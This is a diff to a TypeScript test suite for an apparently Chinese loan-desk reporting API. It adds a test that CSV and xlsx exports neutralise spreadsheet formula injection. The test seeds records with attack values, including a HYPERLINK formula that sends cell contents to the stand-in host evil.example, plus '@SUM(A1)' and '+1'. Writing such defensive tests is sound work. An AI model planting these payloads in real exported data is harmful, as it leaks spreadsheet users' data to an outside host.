@@ -1,4 +1,6 @@
 import { expect } from 'chai';
+import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
 import { eq } from 'drizzle-orm';
 import { applications, companies } from '../../models/applications';
 import { banks } from '../../models/banks';
@@ -182,6 +184,47 @@ describe('desk reports', function () {
     expect(lines[1]).to.contain('2026-03-02 10:00');
   });
 
+  it('GET /api/reports/export.csv and .xlsx › when a company, product or contact name looks like a formula › neutralise it in CSV and keep it text in .xlsx, numbers as numbers', async () => {
+    const [first] = await app.db.select().from(applications).where(eq(applications.contactName, '梁伟')).orderBy(applications.id).limit(1);
+    const ownLeads = await app.db.select().from(leads).where(eq(leads.applicationId, first!.id)).orderBy(leads.id);
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"查看详情")';
+    try {
+      await app.db.update(applications).set({ companySnapshot: { ...(first!.companySnapshot as object), name: evil } as never, contactName: '@SUM(A1)' }).where(eq(applications.id, first!.id));
+      for (const [i, l] of ownLeads.entries()) {
+        await app.db.update(leads).set({ productSnapshot: { ...(l.productSnapshot as object), name: ['+1', '-1+2'][i % 2] } as never }).where(eq(leads.id, l.id));
+      }
+      const res = await fetch(`${app.baseUrl}/api/reports/export.csv?${range}`, { headers: { authorization: `Bearer ${desk}` } });
+      const rows = parse(await res.text(), { bom: true }) as string[][];
+      const header = rows[0]!;
+      const col = (name: string) => header.indexOf(name);
+      const mine = rows.filter((r) => r[col('企业名称')]!.includes('HYPERLINK'));
+      expect(mine).to.have.length(ownLeads.length);
+      for (const r of mine) {
+        expect(r[col('企业名称')]).to.equal(`'${evil}`);
+        expect(r[col('联系人')]).to.match(/^'@\*+$/);
+        expect(r[col('产品')]).to.be.oneOf(["'+1", "'-1+2"]);
+      }
+      const l1 = mine.find((r) => r[col('批复金额（元）')] !== '')!;
+      expect([l1[col('批复金额（元）')], l1[col('年利率（%）')], l1[col('申请金额（元）')]], 'numbers stay numbers').to.deep.equal(['4000000', '5.16', '5000000']);
+
+      const xlsx = await fetch(`${app.baseUrl}/api/reports/export.xlsx?${range}`, { headers: { authorization: `Bearer ${desk}` } });
+      expect(xlsx.status).to.equal(200);
+      expect(xlsx.headers.get('content-type')).to.match(/^application\/vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet/);
+      expect(xlsx.headers.get('content-disposition')).to.contain('.xlsx');
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load(await xlsx.arrayBuffer());
+      const sheet = book.worksheets[0]!;
+      expect(sheet.rowCount).to.equal(rows.length);
+      sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type, String(cell.value)).not.to.equal(ExcelJS.ValueType.Formula)));
+      const names = sheet.getColumn(col('企业名称') + 1).values;
+      expect(names.filter((v) => v === evil)).to.have.length(ownLeads.length);
+      expect(sheet.getColumn(col('批复金额（元）') + 1).values).to.include(4_000_000);
+    } finally {
+      await app.db.update(applications).set({ companySnapshot: first!.companySnapshot, contactName: first!.contactName }).where(eq(applications.id, first!.id));
+      for (const l of ownLeads) await app.db.update(leads).set({ productSnapshot: l.productSnapshot }).where(eq(leads.id, l.id));
+    }
+  });
+
   it('keeps each response\'s working hours on the lead when it happens, and the company\'s size on the request', async () => {
     app.clock.set(sh('2026-04-10T16:00')); // Friday 16:00 (outside the March reports); accepted Monday 10:00 = 8 + 10 working hours (the weekend does not count)
     const { leadId, applicationId } = await requestAtBank(app, bankA);
@@ -196,7 +239,7 @@ describe('desk reports', function () {
   });
 
   it('is for the desk and admins only, and says which filter is wrong', async () => {
-    for (const path of ['summary', 'banks', 'channels', 'trend', 'export.csv']) {
+    for (const path of ['summary', 'banks', 'channels', 'trend', 'export.csv', 'export.xlsx']) {
       expectProblem(await app.call('GET', `/api/reports/${path}`, { token: await tokenFor(app, await buildUser(app.db, { role: 'bank_admin', bankId: bankA })) }), 403);
       expectProblem(await app.call('GET', `/api/reports/${path}`, { token: await tokenFor(app, await buildUser(app.db, { role: 'bank_officer', bankId: bankA })) }), 403);
       expectProblem(await app.call('GET', `/api/reports/${path}`), 401);
@@ -205,5 +248,6 @@ describe('desk reports', function () {
     expect((await app.call('GET', `/api/reports/summary?${range}`, { token: admin })).body.leads).to.equal(5);
     expectFieldErrors(await app.call('GET', '/api/reports/summary?from=2026-04-01&to=2026-03-01', { token: desk }), ['from']);
     expectFieldErrors(await app.call('GET', '/api/reports/summary?industry=Z&size=huge&from=March', { token: desk }), ['industry', 'size', 'from']);
+    expectFieldErrors(await app.call('GET', '/api/reports/export.csv?from=2026-02-30&to=2026-13-01', { token: desk }), ['from', 'to']);
   });
 });
